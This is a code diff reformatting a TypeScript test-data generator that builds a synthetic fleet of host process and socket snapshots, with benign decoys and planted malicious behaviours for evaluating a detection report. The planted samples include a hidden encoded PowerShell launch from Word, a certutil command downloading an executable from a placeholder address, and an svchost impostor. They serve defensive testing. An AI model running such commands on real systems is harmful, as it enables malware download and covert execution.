@@ -28,7 +28,10 @@ class Host {
   private nextPid = 2;
   private port = 40000;
 
-  constructor(readonly id: string, readonly os: "linux" | "windows") {}
+  constructor(
+    readonly id: string,
+    readonly os: "linux" | "windows",
+  ) {}
 
   proc(name: string, exe: string, cmdline: string, ppid = 1, extra: Json = {}): number {
     const pid = this.nextPid++ * 7;
@@ -45,7 +48,16 @@ class Host {
   }
 
   line(n: number): string {
-    return JSON.stringify({ hostId: this.id, hostname: this.id, os: this.os, osVersion: this.os, agentVersion: "0.1.0", takenAtMs: String(1764300000000 + n * 60000), processes: this.processes, sockets: this.sockets });
+    return JSON.stringify({
+      hostId: this.id,
+      hostname: this.id,
+      os: this.os,
+      osVersion: this.os,
+      agentVersion: "0.1.0",
+      takenAtMs: String(1764300000000 + n * 60000),
+      processes: this.processes,
+      sockets: this.sockets,
+    });
   }
 }
 
@@ -129,17 +141,65 @@ export function labelledFleet(opts: { linux: number; windows: number; seed?: num
 
   // Decoys: benign, rare, and behaving the same wherever they run.
   const decoys: Planted[] = [];
-  const decoy = (on: typeof linux, count: number, from: number, name: string, exe: string, cmdline: string, parent: string, address: string, port: number, protocol: string, what: string) => {
+  const decoy = (
+    on: typeof linux,
+    count: number,
+    from: number,
+    name: string,
+    exe: string,
+    cmdline: string,
+    parent: string,
+    address: string,
+    port: number,
+    protocol: string,
+    what: string,
+  ) => {
     for (let i = 0; i < count; i++) {
       const { h, pids } = pick(on, i + from);
       h.connect(h.proc(name, exe, cmdline, pids[parent]), address, port);
     }
     decoys.push({ binary: name, protocol, what });
   };
-  decoy(linux, 3, 1, "backupd", "/opt/vendor/backup/bin/backupd", "/opt/vendor/backup/bin/backupd --daemon", "systemd", "203.0.113.200", 443, "https", "vendor backup agent on 3 hosts");
+  decoy(
+    linux,
+    3,
+    1,
+    "backupd",
+    "/opt/vendor/backup/bin/backupd",
+    "/opt/vendor/backup/bin/backupd --daemon",
+    "systemd",
+    "203.0.113.200",
+    443,
+    "https",
+    "vendor backup agent on 3 hosts",
+  );
   decoy(linux, 2, 20, "rsync", "/usr/bin/rsync", "rsync -az /srv/ backup::srv", "systemd", "10.1.9.9", 873, "rsync", "rsync to the backup host on 2 hosts");
-  decoy(windows, 3, 3, "AcmeUpdater.exe", "C:\\Program Files\\Acme\\AcmeUpdater.exe", '"C:\\Program Files\\Acme\\AcmeUpdater.exe" /service', "services", "203.0.113.201", 443, "https", "vendor updater on 3 Windows hosts");
-  decoy(linux, 4, 60, "agent", "/opt/datadog-agent/bin/agent/agent", "/opt/datadog-agent/bin/agent/agent run", "systemd", "203.0.113.202", 443, "https", "monitoring agent on 4 hosts");
+  decoy(
+    windows,
+    3,
+    3,
+    "AcmeUpdater.exe",
+    "C:\\Program Files\\Acme\\AcmeUpdater.exe",
+    '"C:\\Program Files\\Acme\\AcmeUpdater.exe" /service',
+    "services",
+    "203.0.113.201",
+    443,
+    "https",
+    "vendor updater on 3 Windows hosts",
+  );
+  decoy(
+    linux,
+    4,
+    60,
+    "agent",
+    "/opt/datadog-agent/bin/agent/agent",
+    "/opt/datadog-agent/bin/agent/agent run",
+    "systemd",
+    "203.0.113.202",
+    443,
+    "https",
+    "monitoring agent on 4 hosts",
+  );
   // Not a decoy: python serving a directory on one of the ~140 hosts where
   // python runs is rare behaviour for python, and the report should show it.
   {
@@ -176,10 +236,20 @@ export function labelledFleet(opts: { linux: number; windows: number; seed?: num
     h.connect(np, "192.0.2.47", 443);
   });
   plant("windows", 7, "Word spawning PowerShell that connects out", "powershell.exe", "https", (h, pids) => {
-    h.connect(h.proc("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgA", pids["word"], { user: "CORP\\bob" }), "192.0.2.48", 443);
+    h.connect(
+      h.proc("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgA", pids["word"], {
+        user: "CORP\\bob",
+      }),
+      "192.0.2.48",
+      443,
+    );
   });
   plant("windows", 9, "certutil downloading", "certutil.exe", "http", (h, pids) => {
-    h.connect(h.proc("certutil.exe", "C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://192.0.2.49/a.exe a.exe", pids["explorer"], { user: "CORP\\bob" }), "192.0.2.49", 80);
+    h.connect(
+      h.proc("certutil.exe", "C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://192.0.2.49/a.exe a.exe", pids["explorer"], { user: "CORP\\bob" }),
+      "192.0.2.49",
+      80,
+    );
   });
   plant("windows", 11, "svchost impostor in Public", "svchost.exe", "https-alt", (h, pids) => {
     h.connect(h.proc("svchost.exe", "C:\\Users\\Public\\svchost.exe", "C:\\Users\\Public\\svchost.exe", pids["explorer"]), "192.0.2.50", 8443);
